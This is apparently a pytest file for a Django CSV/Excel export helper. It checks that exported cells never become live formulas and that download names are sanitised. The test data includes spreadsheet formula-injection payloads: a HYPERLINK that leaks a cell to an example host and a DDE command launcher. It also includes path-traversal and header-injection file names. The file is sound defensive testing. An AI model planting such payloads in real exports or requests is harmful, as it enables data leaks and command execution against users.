"""The export helper: what a spreadsheet opens is data, never a live formula; names are safe to save."""

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.utils import translation
from django.utils.http import parse_header_parameters
from openpyxl import load_workbook

from core.exports import content_disposition, csv_bytes, csv_text, file_response, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "-5",  # text that looks like a number is still text: written inert
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=1+1",  # a quote already there: still read back exactly
]
HARMLESS = ["N03702", "Nya etableringar", "1880", "2024K1", "'citat' i titeln", "#N/A"]


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8")), delimiter=";"))  # a Swedish CSV


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


def test_csv_text_a_spreadsheet_would_run_gets_a_quote_in_front_and_reads_back_exactly():
    content = csv_bytes([PAYLOADS, HARMLESS])

    payloads, harmless = _csv(content)

    assert [cell[:1] for cell in payloads] == ["'"] * len(PAYLOADS)
    assert [csv_text(cell) for cell in payloads] == PAYLOADS
    assert harmless == HARMLESS
    assert [csv_text(cell) for cell in harmless] == HARMLESS


def test_csv_numbers_are_plain_numbers_and_text_is_quoted_so_no_separator_starts_a_cell():
    row = ["BRO", -5, 12.5, 0, None, float("nan"), "a;=1+1", "b,=1+1", Decimal("1000.50"), 1234567.25]

    # Swedish: what Swedish Excel opens on a double click, semicolons and a decimal comma, every digit
    assert csv_bytes([row]) == b'"BRO";-5;12,5;0;"";"";"a;=1+1";"b,=1+1";1000,50;1234567,25\r\n'
    with translation.override("en"):
        assert csv_bytes([row]) == b'"BRO",-5,12.5,0,"","","a;=1+1","b,=1+1",1000.50,1234567.25\r\n'


def test_excel_has_no_formula_cell_and_its_texts_are_kept_exactly():
    content = xlsx_bytes([PAYLOADS, HARMLESS])

    sheet = _sheet(content)
    rows = [
        [(c.value, c.data_type, bool(c.quotePrefix)) for c in row if c.value is not None] for row in sheet.iter_rows()
    ]

    # An XML reader may keep a CR or read it as a line feed (openpyxl with or without lxml)
    read = [(value.replace("\r", "\n"), kind, prefix) for value, kind, prefix in rows[0]]
    assert read == [(p.replace("\r", "\n"), "s", True) for p in PAYLOADS]
    assert rows[1] == [(h, "s", False) for h in HARMLESS]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_excel_numbers_are_numeric_cells_and_unknown_values_are_empty_not_zero():
    content = xlsx_bytes([["BRO", -5, 12.5, 0.1 + 0.2, 1.7976931348623157e308, 0, None, float("nan"), float("inf")]])

    cells = [(c.value, c.data_type) for c in next(_sheet(content).iter_rows(max_col=9))]

    assert cells == [
        ("BRO", "s"),
        (-5, "n"),
        (12.5, "n"),
        (0.30000000000000004, "n"),  # every digit, so a file read back gives exactly the same value
        (1.7976931348623157e308, "n"),
        (0, "n"),
        (None, "n"),
        (None, "n"),
        (None, "n"),
    ]


def test_excel_export_of_a_text_with_control_characters_does_not_fail():
    content = xlsx_bytes([["före\x01efter\x00slut"]])

    assert _sheet(content)["A1"].value == "före\ufffdefter\ufffdslut"


@pytest.mark.parametrize(
    ("name", "ascii_name", "exact_name"),
    [
        ("N03702", "N03702.csv", "N03702.csv"),
        ("Förskola i Älvdalen", "Forskola i Alvdalen.csv", "Förskola i Älvdalen.csv"),
        ('../../etc/passwd"; x="', "etc-passwd- x.csv", "etc-passwd- x=.csv"),
        (
            "TAB6471/Alder=20-24\r\nSet-Cookie: a=b",
            "TAB6471-Alder_20-24 Set-Cookie- a_b.csv",
            "TAB6471-Alder=20-24 Set-Cookie- a=b.csv",
        ),
        ("C:\\Users\\Public\\evil", "C-Users-Public-evil.csv", None),
        ("\x00\x1f\u202e", "export.csv", "export.csv"),
    ],
)
def test_download_names_keep_no_path_quote_or_control_character(name, ascii_name, exact_name):
    header = content_disposition(name, "csv")

    kind, params = parse_header_parameters(header)  # RFC 5987: filename* wins over filename

    assert kind == "attachment"
    assert header.isascii() and "\r" not in header and "\n" not in header
    assert re.match(r'attachment; filename="([^"]*)"; ', header).group(1) == ascii_name
    assert params["filename"] == (exact_name or ascii_name)
    assert not set("/\\\"'\x00\r\n") & set(params["filename"])


def test_a_response_carries_the_file_and_its_kind():
    response = file_response([["series", "value"], ["=1+1", -5]], "=1+1", "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == "attachment; filename=\"1_1.csv\"; filename*=UTF-8''%3D1%2B1.csv"
    assert _csv(response.content) == [["series", "value"], ["'=1+1", "-5"]]
    with pytest.raises(ValueError, match="pdf"):
        file_response([], "x", "pdf")
